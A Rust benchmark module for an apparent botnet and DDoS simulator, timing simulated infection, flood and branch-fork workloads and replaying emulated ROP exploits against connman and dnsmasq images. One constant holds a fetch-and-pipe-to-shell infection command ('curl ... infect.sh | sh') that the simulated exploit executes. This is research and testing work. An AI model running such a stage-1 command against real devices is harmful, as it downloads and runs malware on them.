//! The workloads: each run is a closed sequence of calls into the public
//! entry points, timed segment by segment.
//!
//! A single-world run (`flood`, `recruit`) is
//! setup → `run_prefix(attack command)` → `run_prefix(attack end)` →
//! `run_prefix(horizon)` + `try_run_to_completion`. A `tree` run is
//! setup → `run_prefix(fork point)` → `run_suffixes_streamed` over the
//! branches. Traced runs add per-layer probes between or after those
//! segments; `run_s` is the sum of the segments, so probes never count
//! toward it.

use crate::spec::{Spec, Workload};
use crate::trace::Tracer;
use ddosim_core::{
    run_suffixes_streamed, DaemonKind, Ddosim, RunResult, SuffixSpec, TelemetryConfig,
};
use djson::Json;
use rand::rngs::SmallRng;
use rand::SeedableRng;
use scenario::ScenarioPlan;
use std::sync::Arc;
use std::time::{Duration, Instant};
use tinyvm::{Arch, BinaryImage, Protections, RopChainBuilder, VulnProcess};

/// Forks and digests a traced run times, to take their median.
const PROBE_REPEATS: usize = 3;

/// A run sets its world up repeatedly until this many seconds of setup
/// are timed (at least `MIN_SETUPS`, at most `MAX_SETUPS` times), so that
/// a setup of well under a millisecond is still timed over many repeats.
const SETUP_BUDGET_S: f64 = 0.1;
const MIN_SETUPS: usize = 3;
const MAX_SETUPS: usize = 1000;

/// `tree`: the parent's flight-recorder ring and metrics interval.
const TREE_RECORDER_CAPACITY: usize = 8192;
const TREE_METRICS_INTERVAL: Duration = Duration::from_secs(1);

/// `tree`: the parent forks this long before the attack command.
const TREE_FORK_LEAD: Duration = Duration::from_secs(1);

/// Stage-1 command the replayed exploits execute.
const STAGE1: &str = "curl -s http://10.0.0.2/bins/infect.sh | sh";

/// FNV-1a, for the digest of a run's deterministic results.
fn fnv1a(hash: u64, bytes: &[u8]) -> u64 {
    bytes.iter().fold(hash, |h, b| {
        (h ^ u64::from(*b)).wrapping_mul(0x0000_0100_0000_01b3)
    })
}

const FNV_OFFSET: u64 = 0xcbf2_9ce4_8422_2325;

fn median(mut xs: Vec<f64>) -> f64 {
    xs.sort_by(f64::total_cmp);
    let n = xs.len();
    match n {
        0 => f64::NAN,
        _ if n % 2 == 1 => xs[n / 2],
        _ => (xs[n / 2 - 1] + xs[n / 2]) / 2.0,
    }
}

fn f64s(xs: &[f64]) -> Json {
    Json::Arr(xs.iter().map(|x| Json::F64(*x)).collect())
}

fn obj(members: Vec<(&str, Json)>) -> Json {
    Json::Obj(
        members
            .into_iter()
            .map(|(k, v)| (k.to_owned(), v))
            .collect(),
    )
}

/// Sets the world up once: parses the plan, builds its world (with the
/// recorder and metrics on for `tree`) and installs its deployments, as
/// `ScenarioPlan::build_with_telemetry` does.
fn setup(spec: &Spec, t: &mut Tracer) -> Result<(Ddosim, f64), String> {
    let open = t.enter("bench.setup");
    let plan = t
        .time("scenario.parse", || ScenarioPlan::parse(&spec.plan))
        .0;
    let plan = plan.map_err(|e| format!("scenario plan: {e}"))?;
    let mut config = plan.config();
    if spec.workload == Workload::Tree {
        config.telemetry = TelemetryConfig {
            record: true,
            recorder_capacity: TREE_RECORDER_CAPACITY,
            metrics_interval: Some(TREE_METRICS_INTERVAL),
            ..TelemetryConfig::default()
        };
    }
    let mut world = t.time("core.build", || Ddosim::new(config)).0?;
    t.time("scenario.install", || plan.install(&mut world)).0?;
    Ok((world, t.exit(open)))
}

/// Sets up repeatedly for about `SETUP_BUDGET_S` (timing each setup) and
/// keeps the last world.
fn setups(spec: &Spec, t: &mut Tracer) -> Result<(Ddosim, Vec<f64>), String> {
    let mut setup_s = Vec::new();
    let mut total = 0.0;
    let mut last = None;
    while setup_s.len() < MIN_SETUPS || (total < SETUP_BUDGET_S && setup_s.len() < MAX_SETUPS) {
        // The previous world is dropped before the next setup is timed.
        drop(last.take());
        let (world, s) = setup(spec, t)?;
        setup_s.push(s);
        total += s;
        last = Some(world);
    }
    let world = last.expect("MIN_SETUPS is at least 1");
    Ok((world, setup_s))
}

/// A Dev's exploitable daemon, as the replay needs it.
struct Target {
    daemon: DaemonKind,
    protections: Protections,
}

fn infected_targets(world: &Ddosim) -> Vec<Target> {
    world
        .devs()
        .iter()
        .filter(|d| d.container.is_infected())
        .map(|d| Target {
            daemon: d.daemon,
            protections: d.protections,
        })
        .collect()
}

/// Replays one leak → rebase → exploit round-trip per infected Dev
/// through tinyvm and adds the tinyvm probes: the replay's seconds, its
/// round-trips, and how many reached `execlp`.
fn exploit_probes(targets: &[Target], seed: u64, t: &mut Tracer, probes: &mut Vec<(&str, Json)>) {
    let open = t.enter("tinyvm.exploit");
    let connman = Arc::new(tinyvm::catalog::connman_image(Arch::X86_64));
    let dnsmasq = Arc::new(tinyvm::catalog::dnsmasq_image(Arch::X86_64));
    let mut rng = SmallRng::seed_from_u64(seed);
    let mut exec = 0u64;
    for target in targets {
        let image: &Arc<BinaryImage> = match target.daemon {
            DaemonKind::Connman => &connman,
            DaemonKind::Dnsmasq => &dnsmasq,
        };
        let mut process = VulnProcess::start(Arc::clone(image), target.protections, &mut rng);
        let slide = match (process.leak_probe(), image.leak) {
            (Some(leaked), Some(spec)) => leaked.wrapping_sub(spec.leaked_symbol_addr),
            _ => 0,
        };
        let Ok(chain) = RopChainBuilder::new(image, slide).execlp(STAGE1) else {
            continue;
        };
        if std::hint::black_box(process.deliver_input(&chain.encode())).is_exec() {
            exec += 1;
        }
    }
    probes.push(("tinyvm.exploit_s", Json::F64(t.exit(open))));
    probes.push(("tinyvm.exploits", Json::U64(targets.len() as u64)));
    probes.push(("tinyvm.exploits_exec", Json::U64(exec)));
}

/// Times `fork_with_seed` and `state_digests` on `world` a few times, and
/// serializing its flight recorder once (near-free with the recorder off);
/// adds the medians to the probes.
fn world_probes(
    world: &Ddosim,
    seed: u64,
    t: &mut Tracer,
    probes: &mut Vec<(&str, Json)>,
) -> Result<(), String> {
    let (mut fork_s, mut digest_s) = (Vec::new(), Vec::new());
    for _ in 0..PROBE_REPEATS {
        let (fork, s) = t.time("core.fork", || world.fork_with_seed(seed));
        fork_s.push(s);
        drop(fork?);
        let (digests, s) = t.time("core.digest", || world.state_digests());
        std::hint::black_box(digests);
        digest_s.push(s);
    }
    probes.push(("core.fork_s", Json::F64(median(fork_s))));
    probes.push(("core.digest_s", Json::F64(median(digest_s))));
    let (doc, s) = t.time("telemetry.recorder_json", || {
        world.telemetry().recorder_json()
    });
    std::hint::black_box(doc);
    probes.push(("telemetry.recorder_json_s", Json::F64(s)));
    Ok(())
}

fn result_digest(r: &RunResult) -> u64 {
    fnv1a(
        FNV_OFFSET,
        r.to_deterministic_json().to_string_compact().as_bytes(),
    )
}

/// The deterministic fields of one run result the output check reads.
fn result_json(r: &RunResult) -> Json {
    obj(vec![
        ("digest", Json::Str(format!("{:016x}", result_digest(r)))),
        ("devs", Json::U64(r.devs as u64)),
        ("infected", Json::U64(r.infected as u64)),
        ("registrations", Json::U64(r.total_registrations)),
        (
            "flood_packets_received",
            Json::U64(r.flood_packets_received),
        ),
    ])
}

/// The simulator counters of one world, read at its horizon.
struct Snapshot {
    events: u64,
    packets_sent: u64,
    packets_delivered: u64,
    dropped_queue_overflow: u64,
    packets_dropped: u64,
    peak_buffered_bytes: u64,
    peak_pending_events: u64,
}

impl Snapshot {
    fn read(world: &mut Ddosim) -> Snapshot {
        let peak_pending_events = world.sim_mut().peak_pending_events() as u64;
        let s = world.sim_mut().stats();
        Snapshot {
            events: s.events_executed,
            packets_sent: s.packets_sent,
            packets_delivered: s.packets_delivered,
            dropped_queue_overflow: s.dropped_queue_overflow,
            packets_dropped: s.total_dropped(),
            peak_buffered_bytes: s.peak_buffered_bytes,
            peak_pending_events,
        }
    }

    fn to_json(&self) -> Json {
        obj(vec![
            ("events", Json::U64(self.events)),
            ("packets_sent", Json::U64(self.packets_sent)),
            ("packets_delivered", Json::U64(self.packets_delivered)),
            (
                "dropped_queue_overflow",
                Json::U64(self.dropped_queue_overflow),
            ),
            ("packets_dropped", Json::U64(self.packets_dropped)),
            ("peak_pending_events", Json::U64(self.peak_pending_events)),
            ("peak_buffered_bytes", Json::U64(self.peak_buffered_bytes)),
        ])
    }
}

/// A world advanced through the attack window and to its horizon.
struct Finished {
    attack: Json,
    finish: Json,
    finish_s: f64,
    attack_s: f64,
    stats: Snapshot,
    result: RunResult,
    /// Infected Devs at the horizon, collected when traced.
    targets: Vec<Target>,
}

fn phase_json(s: f64, events: u64) -> Json {
    obj(vec![("s", Json::F64(s)), ("events", Json::U64(events))])
}

/// Runs `world` (standing at or before the attack command) through the
/// attack window and to completion.
fn attack_and_finish(mut world: Ddosim, trace: bool, t: &mut Tracer) -> Result<Finished, String> {
    let config = world.config();
    let attack_end = config.attack_at + config.attack.duration;
    let horizon = config.sim_time;
    let before = world.sim_mut().stats().events_executed;
    let (r, attack_s) = t.time("core.attack", || world.run_prefix(attack_end));
    r?;
    let mid = world.sim_mut().stats().events_executed;
    let open = t.enter("core.finish");
    world.run_prefix(horizon)?;
    let stats = Snapshot::read(&mut world);
    let targets = if trace {
        infected_targets(&world)
    } else {
        Vec::new()
    };
    let (result, _) = world.try_run_to_completion()?;
    let finish_s = t.exit(open);
    Ok(Finished {
        attack: phase_json(attack_s, mid - before),
        finish: phase_json(finish_s, stats.events - mid),
        finish_s,
        attack_s,
        stats,
        result,
        targets,
    })
}

fn run_single(spec: &Spec, t: &mut Tracer) -> Result<Json, String> {
    let (mut world, setup_s) = setups(spec, t)?;
    let attack_at = world.config().attack_at;
    let seed = world.config().seed;
    let (r, prefix_s) = t.time("core.prefix", || world.run_prefix(attack_at));
    r?;
    let prefix_events = world.sim_mut().stats().events_executed;
    let mut probes = Vec::new();
    if spec.trace {
        world_probes(&world, seed, t, &mut probes)?;
    }
    let f = attack_and_finish(world, spec.trace, t)?;
    let run_s = setup_s.last().copied().unwrap_or(0.0) + prefix_s + f.attack_s + f.finish_s;
    if spec.trace {
        exploit_probes(&f.targets, seed, t, &mut probes);
    }
    let r = &f.result;
    let counts = obj(vec![
        ("events", Json::U64(f.stats.events)),
        ("packets_sent", Json::U64(f.stats.packets_sent)),
        ("packets_delivered", Json::U64(f.stats.packets_delivered)),
        ("packets_dropped", Json::U64(f.stats.packets_dropped)),
        ("infected", Json::U64(r.infected as u64)),
        ("registrations", Json::U64(r.total_registrations)),
        ("recorder_events", Json::U64(0)),
        ("branches", Json::U64(0)),
    ]);
    Ok(obj(vec![
        ("setup_s", f64s(&setup_s)),
        ("run_s", Json::F64(run_s)),
        ("stage_s", Json::Null),
        ("pool_threads", Json::Null),
        (
            "phases",
            obj(vec![
                ("prefix", phase_json(prefix_s, prefix_events)),
                ("attack", f.attack),
                ("finish", f.finish),
            ]),
        ),
        ("counts", counts),
        ("netsim", f.stats.to_json()),
        ("results", Json::Arr(vec![result_json(r)])),
        ("probe_result", Json::Null),
        ("branch_rows", Json::Arr(Vec::new())),
        ("digest", Json::Str(format!("{:016x}", result_digest(r)))),
        ("probes", obj(probes)),
    ]))
}

fn run_tree(spec: &Spec, t: &mut Tracer) -> Result<Json, String> {
    let fork_seeds = spec.fork_seeds.as_ref().ok_or("fork seeds missing")?;
    let (mut parent, setup_s) = setups(spec, t)?;
    let seed = parent.config().seed;
    let fork_at = parent.config().attack_at.saturating_sub(TREE_FORK_LEAD);
    let (r, prefix_s) = t.time("core.prefix", || parent.run_prefix(fork_at));
    r?;
    let prefix_events = parent.sim_mut().stats().events_executed;
    let suffixes: Vec<SuffixSpec> = fork_seeds
        .iter()
        .enumerate()
        .map(|(i, &fork_seed)| SuffixSpec {
            fork_seed,
            ..SuffixSpec::identity(format!("b{i}"))
        })
        .collect();
    let mut rows = Vec::with_capacity(suffixes.len());
    let open = t.enter("core.suffix_pool");
    let start = Instant::now();
    let outcomes = run_suffixes_streamed(&parent, &suffixes, |i, row| {
        rows.push((i, start.elapsed().as_secs_f64(), row.is_ok()));
    });
    let stage_s = t.exit(open);
    let run_s = setup_s.last().copied().unwrap_or(0.0) + prefix_s + stage_s;
    // The pool's size, as `run_suffixes_streamed` picks it.
    let pool_threads = std::thread::available_parallelism()
        .map_or(4, std::num::NonZeroUsize::get)
        .min(suffixes.len().max(1));

    let mut digest = FNV_OFFSET;
    let mut results = Vec::new();
    let (mut recorder_events, mut trace_bytes) = (0u64, 0u64);
    let (mut sent, mut delivered, mut dropped) = (0u64, 0u64, 0u64);
    let (mut infected, mut registrations) = (0u64, 0u64);
    for (i, outcome) in outcomes.iter().enumerate() {
        match outcome {
            Ok(o) => {
                let r = &o.result;
                let recorded = o
                    .trace
                    .as_ref()
                    .and_then(|tr| tr.get("total_recorded"))
                    .and_then(Json::as_u64)
                    .unwrap_or(0);
                digest = fnv1a(digest, &result_digest(r).to_le_bytes());
                digest = fnv1a(digest, &recorded.to_le_bytes());
                recorder_events += recorded;
                if spec.trace {
                    let bytes = o
                        .trace
                        .as_ref()
                        .map_or(0, |tr| tr.to_string_compact().len());
                    trace_bytes += bytes as u64;
                }
                sent += r.packets_sent;
                delivered += r.packets_delivered;
                dropped += r.packets_dropped;
                infected += r.infected as u64;
                registrations += r.total_registrations;
                results.push(result_json(r));
            }
            Err(e) => {
                eprintln!("perfbench: tree branch {i}: {e}");
                digest = fnv1a(digest, e.as_bytes());
            }
        }
    }
    drop(outcomes);

    let mut probes = Vec::new();
    let mut phases = vec![("prefix", phase_json(prefix_s, prefix_events))];
    let (mut netsim, mut probe_result) = (Json::Null, Json::Null);
    if spec.trace {
        let first = suffixes.first().ok_or("a tree needs at least one branch")?;
        world_probes(&parent, first.fork_seed, t, &mut probes)?;
        probes.push(("telemetry.trace_bytes", Json::U64(trace_bytes)));
        exploit_probes(&infected_targets(&parent), seed, t, &mut probes);
        // The first branch again, outside the pool and phase by phase:
        // the pool's rows carry no simulator counters.
        let mut branch = parent.fork_with_seed(first.fork_seed)?;
        branch.apply_suffix(first)?;
        let f = attack_and_finish(branch, false, t)?;
        phases.push(("attack", f.attack));
        phases.push(("finish", f.finish));
        netsim = f.stats.to_json();
        probe_result = result_json(&f.result);
    }
    let counts = obj(vec![
        ("events", Json::U64(prefix_events)),
        ("packets_sent", Json::U64(sent)),
        ("packets_delivered", Json::U64(delivered)),
        ("packets_dropped", Json::U64(dropped)),
        ("infected", Json::U64(infected)),
        ("registrations", Json::U64(registrations)),
        ("recorder_events", Json::U64(recorder_events)),
        ("branches", Json::U64(suffixes.len() as u64)),
    ]);
    let rows = rows
        .iter()
        .map(|&(i, s, ok)| Json::Arr(vec![Json::U64(i as u64), Json::F64(s), Json::Bool(ok)]))
        .collect();
    Ok(obj(vec![
        ("setup_s", f64s(&setup_s)),
        ("run_s", Json::F64(run_s)),
        ("stage_s", Json::F64(stage_s)),
        ("pool_threads", Json::U64(pool_threads as u64)),
        ("phases", obj(phases)),
        ("counts", counts),
        ("netsim", netsim),
        ("results", Json::Arr(results)),
        ("probe_result", probe_result),
        ("branch_rows", Json::Arr(rows)),
        ("digest", Json::Str(format!("{digest:016x}"))),
        ("probes", obj(probes)),
    ]))
}

/// Times the reference kernel, then runs the spec once and returns its
/// report.
///
/// # Errors
///
/// Returns the first setup or run failure of a single-world workload, or
/// of the tree's parent world (a failed tree branch is reported in the
/// rows, not as an error).
pub fn run(spec: &Spec) -> Result<Json, String> {
    let reference_s = crate::reference::time_s();
    let mut t = Tracer::new(spec.trace);
    let report = match spec.workload {
        Workload::Tree => run_tree(spec, &mut t)?,
        _ => run_single(spec, &mut t)?,
    };
    let Json::Obj(mut members) = report else {
        unreachable!("reports are objects")
    };
    members.insert(
        0,
        (
            "workload".to_owned(),
            Json::Str(spec.workload.name().to_owned()),
        ),
    );
    members.push(("trace".to_owned(), Json::Bool(spec.trace)));
    members.push(("reference_s".to_owned(), Json::F64(reference_s)));
    members.push(("spans".to_owned(), t.to_json()));
    Ok(Json::Obj(members))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fnv_digest_is_order_sensitive() {
        assert_ne!(fnv1a(FNV_OFFSET, b"ab"), fnv1a(FNV_OFFSET, b"ba"));
        assert_eq!(fnv1a(FNV_OFFSET, b""), FNV_OFFSET);
    }

    #[test]
    fn median_of_even_and_odd_samples() {
        assert_eq!(median(vec![3.0, 1.0, 2.0]), 2.0);
        assert_eq!(median(vec![4.0, 1.0, 2.0, 3.0]), 2.5);
    }

    fn plan(attack_at: u64, attack: u64, horizon: u64) -> String {
        format!(
            r#"{{"schema":"ddosim.scenario/1","name":"t",
                "world":{{"devs":4,"seed":3,"sim_time_secs":{horizon},"attack_at_secs":{attack_at}}},
                "attack":{{"vector":"udpplain","duration_secs":{attack}}}}}"#
        )
    }

    #[test]
    fn a_small_flood_run_reports_its_counts_and_spans() {
        let spec = Spec {
            workload: Workload::Flood,
            trace: true,
            plan: plan(40, 5, 50),
            fork_seeds: None,
        };
        let report = run(&spec).expect("runs");
        let counts = report.get("counts").expect("counts");
        assert!(counts.get("events").and_then(Json::as_u64).unwrap_or(0) > 0);
        let setups = report
            .get("setup_s")
            .and_then(Json::as_array)
            .map_or(0, <[Json]>::len);
        assert!(
            (MIN_SETUPS..=MAX_SETUPS).contains(&setups),
            "{setups} setups"
        );
        let spans = report.get("spans").and_then(Json::as_array).expect("spans");
        assert!(spans
            .iter()
            .any(|s| s.get("name").and_then(Json::as_str) == Some("core.attack")));
        let again = run(&spec).expect("runs");
        assert_eq!(
            report.get("digest"),
            again.get("digest"),
            "same spec, same digest"
        );
    }

    #[test]
    fn a_branch_run_outside_the_pool_matches_the_pool() {
        let spec = Spec {
            workload: Workload::Tree,
            trace: true,
            plan: plan(40, 3, 46),
            fork_seeds: Some(vec![5, 9]),
        };
        let report = run(&spec).expect("runs");
        let results = report
            .get("results")
            .and_then(Json::as_array)
            .expect("results");
        assert_eq!(results.len(), 2, "both branches return Ok");
        assert_ne!(results[0].get("digest"), results[1].get("digest"));
        let probe = report
            .get("probe_result")
            .expect("traced tree re-runs branch 0");
        assert_eq!(probe.get("digest"), results[0].get("digest"));
    }
}
